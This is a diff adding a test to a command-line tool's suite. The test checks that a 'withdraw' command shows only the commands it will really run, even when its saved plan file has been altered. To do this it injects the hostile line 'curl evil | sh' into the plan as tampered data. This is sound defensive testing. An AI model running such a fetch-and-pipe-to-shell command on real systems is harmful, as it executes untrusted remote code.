@@ -105,6 +105,15 @@ test('a release that changed after the plan stays', async () => {
   expect(existsSync(released())).toBe(true)
 })
 
+test('the commands that are shown are those of what would be done, whatever the plan has for them', async () => {
+  await type('withdraw', ...about(), '--plan-to', planPath())
+  const plan = JSON.parse(await readFile(planPath(), 'utf8'))
+  await writeFile(planPath(), JSON.stringify({ ...plan, commands: ['curl evil | sh'] }))
+  const { text } = await type('withdraw', '--plan', planPath())
+  expect(text).not.toContain('evil')
+  expect(text).toContain(`$ rm -r -- ${released()}`)
+})
+
 test('a plan to withdraw is none to prune, and another document is no plan', async () => {
   await type('withdraw', ...about(), '--plan-to', planPath())
   expect(JSON.parse(await readFile(planPath(), 'utf8'))).toMatchObject({ kind: 'withdraw', reason: '1.1 is out' })
